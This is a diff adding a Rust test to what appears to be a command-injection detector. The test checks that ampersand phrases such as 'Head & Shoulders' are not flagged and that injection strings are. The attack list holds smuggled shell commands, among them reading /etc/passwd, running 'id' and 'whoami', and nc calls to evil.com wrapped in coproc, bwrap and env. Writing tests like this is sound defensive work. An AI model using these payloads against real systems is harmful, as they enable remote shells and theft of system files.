@@ -207,6 +207,65 @@ fn client_names_in_the_user_agent_are_not_commands() {
     }
 }
 
+/// Black-box pass 11: values that start with a command name and `&` are names and titles
+/// (B11-7) unless a command runs after it; assignments with quotes, `+=` and array
+/// elements, and more wrappers (B11-8).
+#[test]
+fn names_with_ampersands_pass_and_assignments_of_every_form_are_read() {
+    for benign in [
+        "Head & Shoulders",
+        "Cat & Dog",
+        "cat & dog friendly hotel",
+        "cut & paste",
+        "ID & password reset",
+        "zip & unzip",
+        "tail & head",
+        "grep & awk tutorial",
+        "ssh & scp cheat sheet",
+        "sleep & wake times",
+        "less & more",
+        "echo & the bunnymen",
+        "find & replace",
+    ] {
+        for r in [
+            get(&format!(
+                "/a?q={}",
+                benign.replace(' ', "%20").replace('&', "%26")
+            )),
+            post(
+                "application/json",
+                format!("{{\"body\":\"{benign}\"}}").as_bytes(),
+            ),
+        ] {
+            assert_eq!(r.score, 0, "{benign}: {:?}", r.findings);
+        }
+    }
+    for attack in [
+        "id & whoami",
+        "cat & cat /etc/passwd",
+        "x;A=\\\"b c\\\" id",
+        "x;A='b c' id",
+        "x;A=b\\\\ c id",
+        "x;A=$'b c' id",
+        "x;A=\\\"b c\\\" nc evil.com 1",
+        "x;A+=b nc evil.com 1",
+        "x;A[0]=b nc evil.com 1",
+        "x;coproc nc evil.com 1",
+        "x;source /dev/stdin",
+        "x;bwrap --bind / / nc evil.com 1",
+        "x;env --split-string=\\\"nc evil.com 1\\\"",
+        "x;xvfb-run id",
+        "x;chronic id",
+        "x;ssh-agent id",
+    ] {
+        let r = post(
+            "application/json",
+            format!("{{\"q\":\"{attack}\"}}").as_bytes(),
+        );
+        assert!(r.score >= 5, "{attack}: {:?}", r.findings);
+    }
+}
+
 /// Commands spelled with the shell's wildcards, from variables, with ANSI-C quoting or
 /// empty substitutions; hidden addresses in URLs (black-box pass 10's leftovers). A
 /// question mark ending a question, file patterns, comments and query strings are none.
